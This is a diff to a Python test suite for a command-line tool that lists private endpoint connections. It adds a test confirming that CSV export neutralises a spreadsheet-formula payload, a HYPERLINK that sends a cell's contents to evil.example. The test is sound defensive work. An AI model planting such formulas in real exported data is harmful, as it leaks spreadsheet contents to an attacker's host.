@@ -8,7 +8,9 @@ stdin where a person answers the prompt; stdout is a file or a pipe.
 
 from __future__ import annotations
 
+import csv
 import fcntl
+import io
 import json
 import os
 import pty
@@ -163,6 +165,16 @@ def test_a_strangers_description_is_escaped_in_text_and_exact_in_json(sandbox: S
     exact = sandbox.azpe(*base)
     assert raw_controls(exact.stdout) == []
     assert {r["description"] for r in exact.json} == {HOSTILE, "Auto-approved"}
+
+
+def test_a_strangers_formula_stays_text_in_csv(sandbox: Sandbox) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Approve me")'
+    sandbox.seed(scenario([server("pg-orders", [connection("pe-stranger", description=formula)])]))
+    run = sandbox.azpe("list", "-g", RG, "-s", "pg-orders", "-o", "csv")
+    assert run.code == 0, run
+    header, row = csv.reader(io.StringIO(run.stdout, newline=""))
+    assert row[header.index("description")] == "'" + formula
+    assert sandbox.azpe("list", "-g", RG, "-s", "pg-orders").json[0]["description"] == formula
 
 
 def test_a_strangers_description_reaches_the_terminal_escaped(sandbox: Sandbox) -> None:
